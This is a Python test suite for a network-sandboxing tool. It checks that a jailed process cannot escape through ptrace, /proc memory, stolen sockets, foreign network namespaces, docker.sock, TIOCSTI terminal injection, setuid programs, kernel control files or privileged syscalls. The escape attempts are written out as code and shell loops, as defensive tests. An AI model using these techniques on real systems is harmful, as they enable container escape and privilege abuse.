# SPDX-License-Identifier: GPL-2.0-or-later
"""E-11, E-19 to E-21 and more: other processes, descriptors, terminals, files as ways out."""

import os
import socket
import stat
import tempfile
import threading

from lib import zone
from lib.case import Cases, Skip, expect, expect_eq, expect_in, fill
from lib.commands import attempt, python, shell
from lib.syscalls import socket_in
from lib.terminal import Terminal
from lib.world import HOST_SOCKETS, PLAIN_SOCKET, USER

CASES = Cases()

GOOD = ["--allow", "good.example", "--allow", "udp/ntp.example:123"]
TARGET = (zone.v4(66), 999)
HOLDER = "sp-test-holder"  # a process outside, of the same user, that has a socket of the host


def hold(t, root=False):
    """Starts it. It waits to be abused."""
    code = ("import socket, sys; open('/proc/self/comm', 'w').write(sys.argv[1]); "
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            "k = [s.dup() for _ in range(4)]; print('up', flush=True); sys.stdin.read()")
    holder = t.popen(t.enter(root) + python(code, HOLDER), text=True)
    expect_eq(holder.stdout.readline(), "up\n", "the holder's first line")
    return holder


def abuse(what, *command):
    """The attempt works on the holder from outside, and on nobody at all from a jail."""
    def control(t):
        holder = hold(t, root=True)
        try:
            result = t.plain(root=True)(fill(attempt(*command), t.token()))
            if result.status == 77:
                raise Skip(result.out.strip())
            expect_eq(result.status, 0, "exit status", result)
        finally:
            holder.kill()

    for who, root in (("user", False), ("root", True)):
        @CASES.case(f"{what}, as {who}", control)
        def _(t, root=root):
            holder = hold(t, root)
            tok, marks = t.token(), t.marks()
            try:
                for target in (HOLDER, "sallyport-gate", "sallyport", "*"):
                    words = [target if w == HOLDER else w for w in command]
                    result = t.jail(*GOOD, root=root)(fill(attempt(*words), tok))
                    expect(result.status == 1, f"it worked on {target}", result)
            finally:
                holder.kill()
            expect(not t.seen(marks, tok), f"{tok} arrived")
            expect(not t.leaks(marks), "packets left")


abuse("ptrace of processes outside", "ptrace_all", HOLDER)
abuse("/proc/PID/mem of processes outside", "memory", HOLDER)
abuse("a socket stolen with pidfd_getfd", "steal", HOLDER, *TARGET, "{tok}")


for who, root in (("user", False), ("root", True)):
    @CASES.case(f"the network namespace of a process outside, as {who}")
    def _join(t, root=root):
        holder, tok, marks = hold(t, root), t.token(), t.marks()
        try:
            for wrap in ([], ["unshare", "-Ur"]):
                result = t.jail(*GOOD, root=root)(
                    [*wrap, *fill(attempt("join_netns", "*", *TARGET, "{tok}"), tok)])
                expect(result.status != 0, "it was entered", result)
        finally:
            holder.kill()
        expect(not t.leaks(marks), "packets left")

    @CASES.case(f"the namespace that owns ours, as {who}")
    def _parent(t, root=root):
        tok, marks = t.token(), t.marks()
        result = t.jail(*GOOD, root=root)(fill(attempt("parent_netns", *TARGET, "{tok}"), tok))
        expect(result.status == 1, "it was entered", result)
        expect(not t.leaks(marks), "packets left")

    @CASES.case(f"hidden files through /proc/PID/root and cwd, as {who}")
    def _root(t, root=root):
        holder = hold(t, root)
        result = t.jail(*GOOD, root=root)(attempt("root_of", "*", "/run/docker.sock"))
        holder.kill()
        expect_eq(result.status, 1, "exit status", result)

    @CASES.case(f"files in /proc that tell the gate's secrets, as {who}")
    def _gate_files(t, root=root):
        script = ("for p in /proc/[0-9]*; do c=; read -r c <$p/comm; case $c in sallyport*) "
                  "for f in mem maps environ stack fd/0 fd/3 ns/net auxv syscall; do "
                  "cat $p/$f >/dev/null 2>&1 && echo $c $f; done;; esac; done 2>/dev/null")
        result = t.jail(*GOOD, root=root)(shell(script))
        expect_eq(result.out, "", "readable", result)


# --- Descriptors.
@CASES.case("E-11 an inherited socket is closed", control=lambda t: _inherited(t, t.plain))
def _inherit(t):
    tok, marks, result = _inherited(t, t.jail, *GOOD)
    expect(result.status != 0, "it was usable", result)
    expect(not t.seen(marks, tok), f"{tok} arrived")


def _inherited(t, how, *flags):
    sock = socket_in("/run/netns/host", socket.AF_INET, socket.SOCK_DGRAM)
    tok, marks = t.token(), t.marks()
    code = "import socket, sys; socket.socket(fileno=int(sys.argv[1])).sendto(" \
           "sys.argv[2].encode(), ('203.0.113.66', 999))"
    with sock:
        result = how(*flags, pass_fds=[sock.fileno()])(python(code, sock.fileno(), tok))
    if not flags:
        expect_eq(result.status, 0, "exit status", result)
    return tok, marks, result


for number, stream in enumerate(("stdin", "stdout", "stderr")):
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_DGRAM),
                         (socket.AF_NETLINK, socket.SOCK_RAW)):
        @CASES.case(f"E-11 {stream} is a socket of the host, {family.name} {kind.name}")
        def _stdio(t, number=number, stream=stream, family=family, kind=kind):
            sock = socket_in("/run/netns/host", family, kind)
            with sock:
                process = t.popen(t.words([], ["true"]), **{stream: sock})
                process.communicate(timeout=10)
            # Where the message cannot be written, writing it ends sallyport.
            expect_in(process.returncode, (125, -13), "exit status")


@CASES.case("a Unix socket pair as stdin works, as Node.js makes them")
def _socketpair(t):
    ours, theirs = socket.socketpair()
    process = t.popen(t.words(["-q", *GOOD], ["cat"]), stdin=theirs)
    theirs.close()
    ours.sendall(b"hello")
    ours.close()
    out, err = process.communicate(timeout=10)
    expect_eq(out, b"hello", "output", err)


@CASES.case("stdin is a directory: its sockets are not a way round")
def _directory(t):
    code = "import socket, sys; s = socket.socket(socket.AF_UNIX); " \
           "s.connect('/proc/self/fd/0/docker.sock'); s.sendall(sys.argv[1].encode()); s.recv(9)"
    tok, marks = t.token(), t.marks()
    with open("/dev/null") as null:
        directory = os.open("/run", os.O_RDONLY)
        process = t.popen(t.words([], python(code, tok)), stdin=directory, stdout=null)
        os.close(directory)
        _, err = process.communicate(timeout=10)
    expect(not t.seen(marks, tok), f"docker.sock was reached: {err}")


@CASES.case("started from /run: the directory is the jail's own")
def _cwd(t):
    code = "import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect('docker.sock'); " \
           "s.sendall(sys.argv[1].encode()); s.recv(9)"
    tok, marks = t.token(), t.marks()
    for directory in ("/run", "/run/containerd/..", f"/run/user/{USER}"):
        process = t.popen(t.words([], python(code, tok)), cwd=directory, text=True)
        _, err = process.communicate(timeout=10)
        expect(not t.seen(marks, tok), f"docker.sock was reached from {directory}: {err}")


# --- E-19: every Unix socket that a program can find.
FIND = """
import os, socket, stat, sys
def paths():
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        words = line.split()
        if len(words) > 7:
            yield words[7]
    for top, dirs, files in os.walk('/'):
        if top.startswith(('/proc', '/sys', '/usr')) or top.count('/') > 5:
            dirs[:] = []
        for name in files:
            path = os.path.join(top, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    yield path
            except OSError:
                pass
for path in set(paths()):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        s.connect(path.replace('@', chr(0)))
        s.sendall(sys.argv[1].encode())
        print(path, s.recv(9))
    except OSError:
        pass
"""


def find_sockets(t, how, *flags, **options):
    tok, marks = t.token(), t.marks()
    result = how(*flags, **options)(python(FIND, tok))
    events = t.world.host.since(marks[2], event="unix")
    return result, {e["path"] for e in events if tok in e["tokens"]}


for who, root in (("user", False), ("root", True)):
    @CASES.case(f"E-19 every socket that can be found, as {who}",
                control=lambda t: expect(set(HOST_SOCKETS) | {PLAIN_SOCKET} <= find_sockets(
                    t, t.plain)[1], "the control did not find all sockets"))
    def _sockets(t, root=root):
        result, reached = find_sockets(t, t.jail, *GOOD, root=root)
        expect(not reached, f"reached {sorted(reached)}", result)


def serve(path, netns="host"):
    """A Unix socket bound to this path, relative to the working directory; answers one message."""
    server = socket_in(f"/run/netns/{netns}", socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o666)
    server.listen()
    server.settimeout(3)

    def loop():
        try:
            while True:
                with server.accept()[0] as client:
                    client.sendall(b"hello")
        except OSError:
            pass
    threading.Thread(target=loop, daemon=True).start()
    return server


def relative(directory):
    os.chdir(directory)
    return serve("s.sock"), "s.sock"


def renamed(directory):
    server = serve(f"{directory}/before")
    os.rename(f"{directory}/before", f"{directory}/after")
    return server, "after"


def linked(directory):
    """As ssh(1) does with a ControlPath."""
    server = serve(f"{directory}/ctl.x")
    os.link(f"{directory}/ctl.x", f"{directory}/ctl")
    os.unlink(f"{directory}/ctl.x")
    return server, "ctl"


def elsewhere(directory):
    """As the daemons of rootless containers and other jails do."""
    return serve(f"{directory}/s.sock", "internet"), "s.sock"


HELLO = "import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); " \
        "print(s.recv(9))"

for what, make in (("bound by a relative path", relative), ("renamed after it was bound", renamed),
                   ("linked to another name", linked), ("of another network namespace", elsewhere)):
    for who, root in (("user", False), ("root", True)):
        @CASES.case(f"E-19 a socket {what}, as {who}")
        def _odd(t, make=make, root=root):
            with tempfile.TemporaryDirectory(dir=t.world.work) as directory:
                os.chmod(directory, 0o755)
                server, name = make(directory)
                command = python(HELLO, f"{directory}/{name}")
                expect_in("hello", t.plain(root=root)(command).out, "control: the answer")
                result = t.jail(*GOOD, root=root)(command)
                os.chdir("/")
                server.close()
            expect("hello" not in result.out, "it was reached", result)


def late(t, make):
    """A socket that appears while the jail runs; True when it was reached."""
    code = """
import socket, sys, time
print('up', flush=True)
path = sys.stdin.readline().strip()
s = socket.socket(socket.AF_UNIX)
s.connect(path)
s.sendall(b'here')
"""
    process = t.popen(t.words(["-q", *GOOD], python(code)), text=True)
    expect_eq(process.stdout.readline(), "up\n", "the first line")
    path = make()
    process.communicate(path + "\n", timeout=10)
    return process.returncode == 0


@CASES.case("E-19 a socket made later in /run")
def _late(t):
    def make():
        server = socket.socket(socket.AF_UNIX)
        server.bind("/run/late.sock")
        os.chmod("/run/late.sock", 0o666)
        server.listen()
        t.late = server
        return "/run/late.sock"
    reached = late(t, make)
    os.unlink("/run/late.sock")
    expect(not reached, "it was reached")


@CASES.case("E-20 abstract sockets of the host are not seen")
def _abstract(t):
    result = t.jail(*GOOD)(["cat", "/proc/net/unix"])
    expect(zone.ABSTRACT not in result.out, "it is listed", result)


# --- The terminal.
TIOCSTI = """
import fcntl, sys, termios
for c in 'echo es''caped\\n':
    fcntl.ioctl(int(sys.argv[1]), termios.TIOCSTI, c.encode())
"""


def injected(t, words):
    """What a program puts into its terminal's input is read by the shell after it."""
    shell_words = t.enter() + ["bash", "--norc", "--noprofile", "-i"]
    with Terminal(shell_words, t.environment({"PS1": "prompt> "}), t.world.work) as tty:
        tty.wait_for("prompt> ")
        tty.type(" ".join(f"'{w}'" for w in words) + "; echo af''ter\n")
        tty.wait_for("after")
        tty.type("exit\n")
        tty.wait()
        return "escaped" in tty.screen


@CASES.case("TIOCSTI")
def _tiocsti(t):
    path = f"{t.world.work}/tiocsti.py"
    with open(path, "w") as f:
        f.write(TIOCSTI)
    for fd in ("0", "1", "2"):
        words = ["/usr/bin/python3", path, fd]
        if not injected(t, words):
            raise Skip("this kernel has no TIOCSTI")
        expect(not injected(t, [t.world.program, "run", "-q", "--", *words]),
               "the shell outside read what the jail typed")


# --- Privilege by file.
@CASES.case("a setuid program", control=lambda t: expect_in(
    "uid=0", t.plain()([_setuid(t)]).out + t.plain()([_setuid(t), "-u"]).out, "id"))
def _suid(t):
    for wrap in ([], ["unshare", "-Ur"]):
        result = t.jail(*GOOD)([*wrap, _setuid(t)])
        expect("euid=0" not in result.out, "it got its privilege", result)


def _setuid(t):
    """A copy of id(1) that belongs to root and says so."""
    if not t.world.is_root():
        raise Skip("only root can make a setuid program")
    path = f"{t.world.tmp}/bin/suid-id"
    if not os.path.exists(path):
        with open("/usr/bin/id", "rb") as source, open(path, "wb") as target:
            target.write(source.read())
        os.chmod(path, 0o4755)
    expect(os.stat(path).st_mode & stat.S_ISUID, "no setuid bit")
    return path


@CASES.case("as root, files that steer the machine cannot be written")
def _root_files(t):
    """Root without capabilities still owns files; those of the kernel must not answer to it."""
    script = ("for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe "
              "/proc/sys/kernel/hotplug /proc/sys/net/ipv4/ip_forward /proc/sysrq-trigger "
              "/sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register "
              "/sys/fs/cgroup/cgroup.procs "
              "/sys/fs/cgroup/release_agent /proc/sys/user/max_net_namespaces;"
              " do [ -e $f ] && (exec 3>>$f) 2>/dev/null && echo $f; done")
    if not t.world.is_root():
        raise Skip("only real root has them")
    result = t.jail(*GOOD, root=True)(shell(script))
    expect_eq(result.out, "", "files that can be opened for writing", result)


@CASES.case("as root, devices that carry packets, memory or disks cannot be opened")
def _devices(t):
    script = ("for f in /dev/net/tun /dev/mem /dev/kmem /dev/port /dev/vhost-net /dev/vsock "
              "/dev/kvm /dev/fuse; do [ -e $f ] && (exec 3<>$f) 2>/dev/null && echo $f; done")
    result = t.jail(*GOOD, root=True)(shell(script))
    expect("/dev/mem" not in result.out and "/dev/port" not in result.out, "opened", result)


for what, code in {
    "mount": "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    "setns to init's network": "libc.setns(os.open('/proc/1/ns/net', 0), 0)",
    "chroot": "libc.chroot(b'/tmp')",
    "kexec or reboot": "libc.reboot(0x28121969)",
    "raw socket": "libc.socket(2, 3, 255)", "packet socket": "libc.socket(17, 3, 0x300)",
    "bpf program": "libc.syscall(321, 5, ctypes.create_string_buffer(128), 128)",
    "perf of everything": "libc.syscall(298, ctypes.create_string_buffer(128), -1, 0, -1, 0)",
    "module": "libc.syscall(175, b'x', 1, b'')", "sethostname": "libc.sethostname(b'x', 1)",
    "setuid to another": "libc.setuid(4711)", "AF_XDP socket": "libc.socket(44, 3, 0)",
    "AF_KEY socket": "libc.socket(15, 3, 2)",
}.items():
    @CASES.case(f"as root: {what} is refused")
    def _refused(t, code=code):
        script = f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nr = {code}\n" \
                 "print('result', r, os.strerror(ctypes.get_errno()))\nos._exit(0 if r < 0 else 3)"
        result = t.jail(*GOOD, root=True)(python(script))
        expect(result.status in (0, 1), "it was allowed", result)


@CASES.case("hidden places: remounting, unmounting and overmounting from a new namespace")
def _unmount(t):
    script = ("umount -l /run; umount -lR /; mount --bind / /mnt; mount -o remount,rw /run; "
              "mount -t proc p /proc; for r in /run /mnt/run /proc/1/root/run; do "
              "curl -s -m2 --unix-socket $r/docker.sock http://x/$0; done")
    tok, marks = t.token(), t.marks()
    for root in (False, True):
        for flags in ("-Urm", "-Urmpf", "-Urmn"):
            result = t.jail(*GOOD, root=root)(["unshare", flags, "bash", "-c", script, tok])
            expect(not t.seen(marks, tok), "docker.sock was reached", result)


# --- The gate is not fooled by what the jail does to itself.
TRICKS = {
    "ports of the gate bound by the jail": """
import socket
for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    for port in list(range(1024, 3000)) + list(range(30000, 33000)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = socket.socket(family, kind)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                s.bind((address, port))
                s.close()
            except OSError:
                pass
""",
    "addresses of others bound by the jail": """
import socket
s = socket.socket()
s.bind(('203.0.113.10', 4443))
s.listen()
""",
    "a flood of half-open connections": """
import socket
for i in range(3000):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(('203.0.113.66', 443))
""",
}
for what, trick in TRICKS.items():
    @CASES.case(f"{what}: denied stays denied, allowed stays allowed")
    def _trick(t, trick=trick):
        after = """
import urllib.request
print(urllib.request.urlopen('http://good.example/', timeout=5).read()[:17])
try:
    socket.create_connection(('203.0.113.66', 999), 1).sendall(b'x')
    print('open')
except OSError:
    print('closed')
"""
        marks = t.marks()
        result = t.jail("--allow", "good.example:80")(python(trick + after))
        expect_in("site=good.example", result.out, "what is allowed", result)
        expect_in("closed", result.out, "what is denied", result)
        leaks = [p for p in t.leaks(marks) if p["dst"] == zone.v4(66)]
        expect(not leaks, f"packets left: {leaks}", result)


# --- Real root owns the kernel's settings, without any capability.
WRITABLE = """
import re
states = {}
for line in open('/proc/self/mountinfo'):
    point, options = line.split()[4:6]
    if re.match(r'(/proc/(sys|irq|bus|fs)|/sys)(/|$)', point):
        states[point] = options.split(',')[0]  # the last one mounted is the one that is seen
print(*(f'{p} is writable' for p, state in states.items() if state != 'ro'), sep='\\n')
print(len(states), 'mounts')
"""


@CASES.case("/proc/sys and /sys are read-only for real root, and so is what is mounted below")
def _settings(t):
    if not t.world.is_root():
        raise Skip("only root owns them")
    result = t.jail(*GOOD, root=True)(python(WRITABLE))
    expect("writable" not in result.out, "a mount", result)
    expect(int(result.out.split()[-2]) >= 2, "no such mounts were seen", result)
